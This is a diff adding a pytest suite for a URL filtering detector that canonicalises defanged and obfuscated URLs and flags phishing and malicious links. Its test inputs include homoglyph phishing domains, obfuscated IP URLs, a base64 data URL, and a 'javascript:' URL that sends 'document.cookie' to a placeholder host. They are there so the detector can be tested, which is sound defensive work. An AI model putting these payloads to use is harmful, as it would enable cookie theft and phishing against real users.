@@ -1,0 +1,247 @@
+"""URL filtering (``url_cats``): extraction, canonicalisation, lists, feeds, risk signals, wire shape."""
+
+from __future__ import annotations
+
+import os
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from interlock.detectors.url_filtering import UrlFilteringDetector, UrlFilteringOptions
+from interlock.detectors.url_filtering.canon import canonicalize, extract_candidates, parse_ipv4
+from interlock.detectors.url_filtering.feeds import FEEDS
+from interlock.detectors.url_filtering.model import FEATURES, load_model
+from interlock.engine.base import ScanItem
+from interlock.engine.registry import validate_options
+from interlock.errors import InvalidRequestError, ProfileError
+from interlock.models import ScanRequest
+from interlock.profiles import ProfileStore
+from interlock.profiles.model import DetectorPolicy, Profile
+from interlock.scanner import LocalScanner
+
+
+def _scan(text: str, **options: object) -> list[dict[str, Any]]:
+    det = UrlFilteringDetector(UrlFilteringOptions.model_validate(options))
+    result = det.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
+    report = result.detail["urlf_report"]
+    assert result.detected == any(e["action"] == "block" for e in report)
+    return report  # type: ignore[no-any-return]
+
+
+def _urls(text: str) -> list[str]:
+    return [u.url for c in extract_candidates(text) if (u := canonicalize(c.raw)) is not None]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("see https://Example.COM:443/a/./b/../c?x=1#top now", "https://example.com/a/c?x=1"),
+        ("hxxp://evil[.]example[.]com/payload", "http://evil.example.com/payload"),
+        ("hxxps[:]//bad(.)example(.)org/x", "https://bad.example.org/x"),
+        ("[click](http://example.net/a_(b))", "http://example.net/a_(b)"),
+        ("![logo](https://cdn.example.org/logo.png)", "https://cdn.example.org/logo.png"),
+        ("go to www.example.co.uk/path.", "http://www.example.co.uk/path"),
+        ("visit example[.]com today", "http://example.com/"),
+        ("http://3232235777/x", "http://192.168.1.1/x"),
+        ("http://0xC0A80001/", "http://192.168.0.1/"),
+        ("http://0300.0250.0.1/", "http://192.168.0.1/"),
+        ("http://[::1]:80/", "http://[::1]/"),
+        ("admin at 10.0.0.5:8080/login", "http://10.0.0.5:8080/login"),
+        ("http://аpple.com/", "http://xn--pple-43d.com/"),
+        ("short link bit.ly/3abc", "http://bit.ly/3abc"),
+    ],
+)
+def test_extracts_and_canonicalises(text: str, expected: str) -> None:
+    assert expected in _urls(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "run setup.py then read README.md and run.sh",
+        "write to bob@example.com please",
+        "call self.app and os.path.join(a, b) then obj.name",
+        "upgrade from 1.2.3.4 to 2.0.1",
+        "pi is 3.14159 and e.g. this",
+    ],
+)
+def test_no_false_urls(text: str) -> None:
+    assert _urls(text) == []
+
+
+def test_credentials_are_never_reported() -> None:
+    report = _scan("http://admin:hunter2secret@example.org/x")
+    assert report[0]["url"] == "http://example.org/x"
+    assert "hunter2secret" not in str(report)
+
+
+def test_parse_ipv4_forms() -> None:
+    assert parse_ipv4("127.1") == ("127.0.0.1", True)
+    assert parse_ipv4("8.8.8.8") == ("8.8.8.8", False)
+    assert parse_ipv4("256.1.1.1") is None
+    assert parse_ipv4("example") is None
+
+
+@pytest.mark.parametrize(
+    ("url", "signal"),
+    [
+        ("http://paypa1.com/login", "brand_homoglyph:paypal"),
+        ("http://xn--pypal-4ve.com/", "brand_homoglyph:paypal"),
+        ("http://paypal.com.account-verify.xyz/", "brand_in_subdomain:paypal"),
+        ("http://microsoft-office365-login.com/", "brand_in_domain:microsoft"),
+        ("http://paypal.com@203.0.113.9/", "userinfo_looks_like_host"),
+        ("javascript:fetch('//x.example/'+document.cookie)", "javascript_scheme"),
+        ("data:text/html;base64,PHNjcmlwdD4=", "data_scheme_active"),
+        ("http://0x7f000001/admin", "ip_obfuscated"),
+    ],
+)
+def test_high_risk_urls_block(url: str, signal: str) -> None:
+    det = UrlFilteringDetector()
+    result = det.detect(ScanItem(text=f"please open {url} now", field="prompt", data_type="prompt"))
+    assert result.detected
+    (finding,) = [f for f in result.findings if f.data["action"] == "block"]
+    assert signal in list(finding.data["signals"])
+    assert finding.data["risk_level"] == "high"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Sign in at https://accounts.google.com/signin and https://login.microsoftonline.com/common",
+        "Pay via https://www.paypal.com/myaccount/summary or https://paypal.me/bob",
+        "Docs: https://docs.github.com/en/actions and https://developer.apple.com/documentation",
+        "News: http://telegraf.com.ua/mir/1887545-novosti.html and https://www.lrs.lt/",
+        "Our site example.com and https://en.wikipedia.org/wiki/Phishing",
+        "Search https://www.google.de/search?q=python and https://googleapps.com/",
+    ],
+)
+def test_benign_urls_allowed(text: str) -> None:
+    report = _scan(text)
+    assert report, "URLs must still be reported"
+    assert all(e["action"] == "allow" for e in report), report
+
+
+def test_every_url_reported_once_in_order() -> None:
+    report = _scan("https://a.example.com/ then https://b.example.com/ then https://A.example.com:443/")
+    assert [e["url"] for e in report] == ["https://a.example.com/", "https://b.example.com/"]
+    assert all(set(e) == {"url", "risk_level", "action", "categories"} for e in report)
+
+
+def test_allow_and_block_lists() -> None:
+    text = "http://paypa1.com/ and https://files.corp.example/x and https://corp.example/"
+    report = _scan(text, allow_domains=("paypa1.com",), block_domains=("*.corp.example",))
+    by_url = {e["url"]: e for e in report}
+    assert by_url["http://paypa1.com/"]["action"] == "allow"
+    assert by_url["https://files.corp.example/x"]["action"] == "block"
+    assert "blocked-by-policy" in by_url["https://files.corp.example/x"]["categories"]
+    assert by_url["https://corp.example/"]["action"] == "allow"  # wildcard: subdomains only
+
+
+def test_feeds_text_and_csv(tmp_path: Path) -> None:
+    (tmp_path / "malware.txt").write_text("# bad hosts\nbad-host.example\n*.c2.example\n", encoding="utf-8")
+    (tmp_path / "intel.csv").write_text(
+        "domain,category\nphish.example/login,phishing\nnews.example,news;computer-and-internet-info\n",
+        encoding="utf-8",
+    )
+    feeds = [{"path": str(tmp_path / "malware.txt")}, {"path": str(tmp_path / "intel.csv")}]
+    opts = validate_options("url_cats", {"feeds": feeds})
+    det = UrlFilteringDetector(opts)  # type: ignore[arg-type]
+    text = (
+        "http://www.bad-host.example/a http://x.c2.example/beacon http://phish.example/login?u=1 "
+        "http://phish.example/about https://news.example/today"
+    )
+    report = {
+        e["url"]: e for e in det.detect(ScanItem(text=text, field="prompt", data_type="prompt")).detail["urlf_report"]
+    }
+    assert report["http://www.bad-host.example/a"]["categories"][0] == "malware"
+    assert report["http://www.bad-host.example/a"]["action"] == "block"
+    assert report["http://x.c2.example/beacon"]["action"] == "block"
+    assert report["http://phish.example/login?u=1"]["categories"][0] == "phishing"
+    assert report["http://phish.example/about"]["action"] == "allow"
+    assert report["https://news.example/today"]["categories"][:2] == ["computer-and-internet-info", "news"]
+    assert report["https://news.example/today"]["action"] == "allow"
+
+
+def test_feed_reloads_when_file_changes(tmp_path: Path) -> None:
+    feed = tmp_path / "phishing.txt"
+    feed.write_text("one.example\n", encoding="utf-8")
+    assert FEEDS.get(str(feed)).domains == {"one.example": {"phishing"}}
+    feed.write_text("one.example\ntwo.example\n", encoding="utf-8")
+    stamp = time.time() + 5
+    os.utime(feed, (stamp, stamp))
+    assert set(FEEDS.get(str(feed)).domains) == {"one.example", "two.example"}
+
+
+def test_missing_feed_is_a_profile_error(tmp_path: Path) -> None:
+    with pytest.raises(ProfileError, match="does not exist"):
+        validate_options("url_cats", {"feeds": [{"path": str(tmp_path / "nope.txt")}]})
+    with pytest.raises(ProfileError):
+        validate_options("url_cats", {"block_risk": "sometimes"})
+
+
+def test_url_limit_raises_or_truncates() -> None:
+    text = " ".join(f"https://h{i}.example.com/" for i in range(101))
+    det = UrlFilteringDetector()
+    with pytest.raises(InvalidRequestError) as exc:
+        det.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
+    assert exc.value.status_code == 413
+    capped = UrlFilteringDetector(UrlFilteringOptions(on_too_many_urls="truncate"))
+    result = capped.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
+    assert len(result.detail["urlf_report"]) == 100
+    assert result.findings[-1].entity == "url_limit_exceeded"
+    exactly = " ".join(f"https://h{i}.example.com/" for i in range(100))
+    assert len(det.detect(ScanItem(text=exactly, field="prompt", data_type="prompt")).detail["urlf_report"]) == 100
+
+
+def test_bundled_model_loads() -> None:
+    model = load_model()
+    assert model is not None
+    assert len(model.weights) == len(FEATURES)
+    assert 0.5 < model.threshold < 1.0
+
+
+def _scanner() -> LocalScanner:
+    profile = Profile(name="urls", detectors={"url_cats": DetectorPolicy(action="block")})
+    return LocalScanner(ProfileStore([profile]))
+
+
+def test_local_scanner_wire_parses_with_sdk() -> None:
+    sdk = pytest.importorskip("aisecurity.generated_openapi_client.models")
+    request = ScanRequest.model_validate(
+        {
+            "ai_profile": {"profile_name": "urls"},
+            "contents": [{"prompt": "open http://paypa1.com/login and https://example.com/docs"}],
+        }
+    )
+    scanner = _scanner()
+    try:
+        result = scanner.run(request)
+    finally:
+        scanner.close()
+    response = sdk.ScanResponse.from_dict(result.response.to_wire())
+    assert response.action == "block"
+    assert response.prompt_detected.url_cats is True
+    assert result.report is not None
+    report = sdk.ThreatScanReportObject.from_dict(result.report.to_wire())
+    (dr,) = report.detection_results
+    assert dr.detection_service == "uf"
+    entries = dr.result_detail.urlf_report
+    assert [(e.url, e.action, e.risk_level) for e in entries] == [
+        ("http://paypa1.com/login", "block", "high"),
+        ("https://example.com/docs", "allow", "low"),
+    ]
+    assert entries[0].categories == ["phishing"]
+
+
+def test_too_many_urls_fails_closed_through_engine() -> None:
+    text = " ".join(f"https://h{i}.example.com/" for i in range(120))
+    request = ScanRequest.model_validate({"ai_profile": {"profile_name": "urls"}, "contents": [{"prompt": text}]})
+    scanner = _scanner()
+    try:
+        result = scanner.run(request)
+    finally:
+        scanner.close()
+    assert result.response.error is True
+    assert result.response.action == "block"
